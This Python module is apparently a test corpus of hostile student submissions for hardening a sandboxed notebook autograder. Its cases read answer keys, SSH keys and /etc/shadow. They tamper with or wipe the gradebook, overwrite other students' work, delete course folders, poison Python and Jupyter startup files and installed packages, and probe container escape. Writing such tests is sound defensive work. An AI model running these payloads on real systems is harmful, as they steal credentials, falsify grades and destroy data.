"""Attacks that read, write or poison what lies outside: the course, other students, the home folder, the system."""

from tests.corpora.hostile.make import attack

FAMILY = "files outside"


def _attack(name, code="", **more):
    return attack(FAMILY, name, code, **more)


def _writes(name, code):
    """Code that may try several things: whatever it cannot do, it goes on."""
    return attack(FAMILY, name, "import contextlib, os, pathlib, shutil, glob, sys\n" + code)


# What a grader's own files are called, wherever the course may be.
FIND = """
import os

def found(*wanted):
    roots = ["@COURSE@", os.getcwd(), "..", "../..", "../../..", os.path.expanduser("~"), "/home", "/srv"]
    for root in roots:
        try:
            for folder, _, files in os.walk(root):
                for file in files:
                    if file in wanted or any(file.endswith(one) for one in wanted if one[0] == "."):
                        yield os.path.join(folder, file)
        except OSError:
            pass
"""


CASES = [
    _attack(
        "the course's secret read",
        """
        for path in ("@COURSE@/secret.txt", "secret.txt", "../secret.txt", "../../secret.txt", "../../../secret.txt"):
            try:
                print(open(path).read())
            except OSError as error:
                print(type(error).__name__)
        """,
    ),
    _attack("the secret raised", "raise ValueError(open('@COURSE@/secret.txt').read())\n"),
    _attack(
        "the secret searched for",
        FIND
        + """
for path in found("secret.txt"):
    print(open(path).read())
""",
    ),
    _attack(
        "the secret through /proc",
        """
        import glob, os
        for pid in glob.glob("/proc/[0-9]*"):
            for inner in ("/root/", "/cwd/"):
                for path in ("@COURSE@/secret.txt", "secret.txt"):
                    try:
                        print(open(pid + inner + path.lstrip("/")).read())
                    except OSError:
                        pass
        """,
    ),
    _attack(
        "the secret through an inherited descriptor",
        """
        import os
        for fd in range(0, 300):
            for path in ("@COURSE@/secret.txt", "secret.txt", "../secret.txt"):
                try:
                    print(os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=fd), 200))
                except OSError:
                    pass
        """,
    ),
    _attack(
        "the secret in the environment",
        """
        import glob, os
        print(dict(os.environ))
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                print(open(path).read()[:2000])
            except OSError:
                pass
        """,
    ),
    _attack(
        "hidden tests read",
        FIND
        + """
import re
for path in found("lstm.ipynb", "lstm.py"):
    for seed in re.findall(r"seed=\\d{5}", open(path, errors="replace").read()):
        print(path, seed)
""",
    ),
    _attack(
        "the key read and used",
        FIND
        + """
import json
for path in found("lstm.ipynb"):
    if "source" in path:
        for one in json.load(open(path))["cells"]:
            if one["metadata"].get("nbgrader", {}).get("solution") and one["cell_type"] == "code":
                exec("".join(one["source"]), globals())
""",
        sigmoid="pass\n",
        lstm_step="pass\n",
        count_parameters="pass\n",
    ),
    _attack(
        "the neighbours' answers read and used",
        FIND
        + """
import json
for path in found("lstm.ipynb"):
    if "submitted" in path:
        for one in json.load(open(path))["cells"]:
            if one["metadata"].get("nbgrader", {}).get("solution") and one["cell_type"] == "code":
                try:
                    exec("".join(one["source"]), globals())
                except Exception:
                    pass
""",
        sigmoid="pass\n",
        lstm_step="pass\n",
        count_parameters="pass\n",
    ),
    _attack(
        "the gradebook written",
        """
        import sqlite3
        for path in ("@COURSE@/gradebook.db", "gradebook.db", "../../../gradebook.db"):
            try:
                base = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
                base.execute("update grade set auto_score = 370, manual_score = 370, needs_manual_grade = 0")
                base.execute("update grade_cells set max_score = 370")
                base.commit()
                open("@CANARY@/gradebook", "w").close()
            except Exception as error:
                print(type(error).__name__)
        """,
    ),
    _attack(
        "the gradebook dropped",
        """
        import sqlite3
        try:
            base = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True)
            for (name,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
                base.execute(f"delete from {name}")
            base.commit()
        except Exception as error:
            print(type(error).__name__)
        """,
    ),
    _attack(
        "the gradebook locked",
        """
        import os, sqlite3, time
        if os.path.exists("@COURSE@/gradebook.db") and os.fork() == 0:
            base = sqlite3.connect("@COURSE@/gradebook.db")
            base.execute("begin exclusive")
            time.sleep(20)
            os._exit(0)
        """,
    ),
    _attack(
        "nbgrader's own gradebook interface",
        """
        try:
            from nbgrader.api import Gradebook
            with Gradebook("sqlite:///@COURSE@/gradebook.db") as book:
                for submission in book.assignment_submissions("lstm"):
                    for one in submission.notebooks:
                        for grade in one.grades:
                            grade.manual_score = 370
                book.db.commit()
        except Exception as error:
            print(type(error).__name__)
        """,
    ),
    _writes(
        "the source changed",
        """
for path in glob.glob("@COURSE@/source/*/*.ipynb") + glob.glob("@COURSE@/release/*/*.ipynb"):
    with contextlib.suppress(OSError):
        text = pathlib.Path(path).read_text()
        pathlib.Path(path).write_text(text.replace("check.sigmoid(", "6.0 or check.sigmoid("))
""",
    ),
    _writes(
        "other submissions overwritten",
        """
for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb"):
    with contextlib.suppress(OSError):
        pathlib.Path(path).write_text("{}")
""",
    ),
    _writes(
        "others' results overwritten",
        """
for path in glob.glob("@COURSE@/autograded/*/*/*.ipynb") + glob.glob("@COURSE@/feedback/*/*/*.html") + glob.glob(
    "@COURSE@/.lstmkit/**/*.json", recursive=True
):
    with contextlib.suppress(OSError):
        pathlib.Path(path).write_text("<script>alert(1)</script>")
""",
    ),
    _writes("the course deleted", 'shutil.rmtree("@COURSE@", ignore_errors=True)\n'),
    _writes(
        "the folder above deleted",
        """
for path in ("..", "../..", "../../.."):
    if os.path.realpath(path) != "/" and os.path.realpath(path).startswith(os.path.dirname("@COURSE@")):
        shutil.rmtree(path, ignore_errors=True)
""",
    ),
    _writes(
        "the course's configuration",
        """
for folder in ("@COURSE@", "..", "../..", "../../.."):
    with contextlib.suppress(OSError):
        with open(folder + "/nbgrader_config.py", "a") as file:
            file.write("\\nopen('@CANARY@/config', 'w').close()\\n")
""",
    ),
    _writes("a file in a folder that is open to all", 'open("@CANARY@/touched", "w").close()\n'),
    _writes(
        "a folder, a link and a pipe",
        """
for make in (os.mkdir, os.mkfifo, os.mknod, lambda p: os.symlink("/etc/passwd", p)):
    with contextlib.suppress(OSError):
        make("@CANARY@/" + str(id(make)))
""",
    ),
    _writes(
        "a file written when the interpreter ends",
        """
import atexit
atexit.register(lambda: open("@CANARY@/atexit", "w").close())
""",
    ),
    _attack(
        "a file written from the answer",
        count_parameters="""
        def count_parameters(D, H, biases=1):
            with open("@CANARY@/answer", "w") as file:
                file.write("x")
            return 0
        """,
    ),
    _writes(
        "start-up files of Python",
        """
import site
home = os.path.expanduser("~")
for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), home, os.getcwd()]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True) if folder == site.getusersitepackages() else None
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; open('@CANARY@/startup', 'w').close()\\n")
""",
    ),
    _writes(
        "start-up files of IPython and Jupyter",
        """
home = os.path.expanduser("~")
for path in (".ipython/profile_default/startup/00.py", ".ipython/profile_default/ipython_config.py",
             ".jupyter/nbgrader_config.py", ".jupyter/jupyter_config.py", ".jupyter/jupyter_nbconvert_config.py"):
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)
        with open(os.path.join(home, path), "w") as file:
            file.write("open('@CANARY@/ipython', 'w').close()\\n")
""",
    ),
    _writes(
        "another kernel for everybody",
        """
import json
home = os.path.expanduser("~")
folder = os.path.join(home, ".local/share/jupyter/kernels/python3")
with contextlib.suppress(OSError):
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/kernel.json", "w") as file:
        json.dump({"argv": ["/bin/touch", "@CANARY@/kernel"], "display_name": "Python 3", "language": "python"}, file)
""",
    ),
    _writes(
        "an installed package poisoned",
        """
import numpy
for module in (numpy, sys.modules.get("lstmkit"), sys.modules.get("IPython"), sys.modules.get("json")):
    with contextlib.suppress(OSError, AttributeError):
        with open(module.__file__, "a") as file:
            file.write("\\nopen('@CANARY@/package', 'w').close()\\n")
""",
    ),
    _writes(
        "byte code poisoned",
        """
import importlib.util, marshal
for name in ("json", "lstmkit.grading.guard", "numpy"):
    with contextlib.suppress(Exception):
        cached = importlib.util.cache_from_source(sys.modules[name].__file__)
        with open(cached, "r+b") as file:
            head = file.read(16)
            file.seek(0)
            file.write(head + marshal.dumps(compile("open('@CANARY@/pyc', 'w').close()", "x", "exec")))
""",
    ),
    _writes(
        "modules that shadow, made in the working folder",
        """
for name in ("numpy.py", "lstmkit.py", "json.py", "IPython.py", "sitecustomize.py", "nbgrader_config.py"):
    for folder in (".", "..", "@COURSE@"):
        with contextlib.suppress(OSError):
            with open(os.path.join(folder, name), "w") as file:
                file.write("open('@CANARY@/shadow', 'w').close()\\nraise SystemExit\\n")
""",
    ),
    _writes(
        "a shared temporary folder",
        """
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    for name in ("numpy.py", "json.py", "sitecustomize.py", "lstmkit.py"):
        with contextlib.suppress(OSError):
            with open(os.path.join(folder, name), "w") as file:
                file.write("open('@CANARY@/tmp', 'w').close()\\n")
""",
    ),
    _attack(
        "keys and passwords read",
        """
        import glob, os
        for path in [*glob.glob(os.path.expanduser("~/.ssh/*")), *glob.glob("/root/.ssh/*"), "/etc/shadow"]:
            try:
                open(path).read()
                open("@CANARY@/read", "w").close()
            except OSError as error:
                print(type(error).__name__)
        """,
    ),
    _attack(
        "links out of the working folder",
        """
        import os
        for target in ("@COURSE@/secret.txt", "@COURSE@/source/lstm/lstm.ipynb", "/etc/passwd"):
            for name in ("plot.png", "lstm.html", "lstm.ipynb"):
                try:
                    os.remove(name) if os.path.lexists(name) else None
                    os.symlink(target, name)
                except OSError:
                    pass
        """,
    ),
    _attack(
        "the secret as a picture",
        """
        from IPython.display import HTML, Image, display
        try:
            display(Image(filename="@COURSE@/secret.txt", format="png"))
        except Exception as error:
            print(type(error).__name__)
        display(HTML(filename="@COURSE@/secret.txt"))
        """,
    ),
    _writes(
        "mounts and namespaces",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000 | 0x00020000, 0x00020000):
    with contextlib.suppress(OSError):
        if libc.unshare(flags) == 0:
            libc.umount2(b"/", 2)
            libc.mount(b"/", b"/mnt", None, 4096, None)
            open("@CANARY@/mounted", "w").close()
""",
    ),
    _writes(
        "the root left behind",
        """
for path in ("/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../../../.."):
    with contextlib.suppress(OSError):
        os.chroot(path)
    with contextlib.suppress(OSError):
        open(path + "@CANARY@/root", "w").close()
""",
    ),
    _writes(
        "control groups and kernel settings",
        """
for path in ("/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger",
             "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent"):
    with contextlib.suppress(OSError):
        with open(path, "r+") as file:
            file.seek(0)
        if os.access(path, os.W_OK):
            open("@CANARY@/kernel_setting", "w").close()
""",
    ),
]
